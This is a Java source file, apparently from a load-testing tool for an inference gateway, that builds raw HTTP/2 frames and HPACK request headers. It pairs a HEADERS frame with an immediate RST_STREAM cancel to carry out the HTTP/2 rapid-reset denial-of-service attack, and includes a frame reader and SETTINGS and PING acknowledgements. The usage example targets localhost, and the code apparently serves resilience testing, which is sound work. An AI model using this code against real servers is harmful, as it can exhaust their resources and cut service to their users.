package io.infergate.loadgen.attack;

import io.vertx.core.buffer.Buffer;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.function.Consumer;

/**
 * The few HTTP/2 frames (RFC 9113) a rapid-reset attacker writes, and a reader that splits what the server
 * sends into frames. The request headers are HPACK literals that are never indexed (RFC 7541 §6.2.2),
 * so every stream's header block is the same bytes and no encoder state is kept.
 *
 * <pre>{@code
 * byte[] head = Http2Frames.requestHead(true, "127.0.0.1:8443", "/v1/chat/completions");
 * Buffer out = Http2Frames.clientStart();
 * Http2Frames.appendHeadersThenReset(out, 1, head);
 * }</pre>
 */
final class Http2Frames {

    static final int HEADERS = 0x1;
    static final int RST_STREAM = 0x3;
    static final int SETTINGS = 0x4;
    static final int PING = 0x6;
    static final int GOAWAY = 0x7;

    static final int FLAG_ACK = 0x1;
    private static final int FLAG_END_HEADERS = 0x4;
    private static final int CANCEL = 0x8;
    private static final int FRAME_HEADER_BYTES = 9;
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

    /** One frame received: its type, flags, stream and payload. */
    record Frame(int type, int flags, int streamId, Buffer payload) {
    }

    private Http2Frames() {
    }

    /** The client connection preface and an empty SETTINGS frame: the server's defaults are fine. */
    static Buffer clientStart() {
        Buffer out = Buffer.buffer().appendBytes(PREFACE);
        appendFrame(out, SETTINGS, 0, 0, new byte[0]);
        return out;
    }

    /**
     * The HPACK block of a {@code POST} to {@code path} with a JSON body to come: {@code :method} and
     * {@code :scheme} from the static table, the rest literal with an indexed name.
     */
    static byte[] requestHead(boolean https, String authority, String path) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(0x83);                        // :method: POST, static index 3
        block.write(https ? 0x87 : 0x86);         // :scheme: https (7) or http (6)
        literal(block, 4, path);                  // :path
        literal(block, 1, authority);             // :authority
        literal(block, 31, "application/json");  // content-type
        return block.toByteArray();
    }

    /**
     * Appends a HEADERS frame opening stream {@code streamId} (headers complete, body to follow) and the
     * RST_STREAM that cancels it: one rapid reset.
     */
    static void appendHeadersThenReset(Buffer out, int streamId, byte[] headerBlock) {
        appendFrame(out, HEADERS, FLAG_END_HEADERS, streamId, headerBlock);
        appendFrame(out, RST_STREAM, 0, streamId, new byte[] {0, 0, 0, CANCEL});
    }

    /** The acknowledgement of the server's SETTINGS. */
    static Buffer settingsAck() {
        Buffer out = Buffer.buffer(FRAME_HEADER_BYTES);
        appendFrame(out, SETTINGS, FLAG_ACK, 0, new byte[0]);
        return out;
    }

    /** The answer to the server's PING. */
    static Buffer pingAck(Buffer payload) {
        Buffer out = Buffer.buffer();
        appendFrame(out, PING, FLAG_ACK, 0, payload.getBytes());
        return out;
    }

    private static void appendFrame(Buffer out, int type, int flags, int streamId, byte[] payload) {
        out.appendMedium(payload.length).appendByte((byte) type).appendByte((byte) flags).appendInt(streamId & 0x7fffffff)
                .appendBytes(payload);
    }

    /** A literal header field without indexing whose name is static-table entry {@code nameIndex}. */
    private static void literal(ByteArrayOutputStream block, int nameIndex, String value) {
        integer(block, 0x00, 4, nameIndex);
        byte[] bytes = value.getBytes(StandardCharsets.US_ASCII);
        integer(block, 0x00, 7, bytes.length);   // not Huffman-coded
        block.writeBytes(bytes);
    }

    /** An HPACK integer on a {@code prefixBits}-bit prefix (RFC 7541 §5.1), the first byte's high bits set to {@code high}. */
    private static void integer(ByteArrayOutputStream block, int high, int prefixBits, int value) {
        int max = (1 << prefixBits) - 1;
        if (value < max) {
            block.write(high | value);
            return;
        }
        block.write(high | max);
        int rest = value - max;
        while (rest >= 0x80) {
            block.write((rest & 0x7f) | 0x80);
            rest >>>= 7;
        }
        block.write(rest);
    }

    /** Splits the bytes a server sends, as they come, into whole frames. One per connection. */
    static final class Reader {
        private Buffer pending = Buffer.buffer();

        void feed(Buffer data, Consumer<Frame> frames) {
            pending.appendBuffer(data);
            int at = 0;
            while (pending.length() - at >= FRAME_HEADER_BYTES) {
                int length = pending.getUnsignedMedium(at);
                if (pending.length() - at < FRAME_HEADER_BYTES + length) {
                    break;
                }
                int start = at + FRAME_HEADER_BYTES;
                frames.accept(new Frame(pending.getUnsignedByte(at + 3), pending.getUnsignedByte(at + 4),
                        pending.getInt(at + 5) & 0x7fffffff, pending.getBuffer(start, start + length)));
                at = start + length;
            }
            pending = pending.getBuffer(at, pending.length());
        }
    }
}
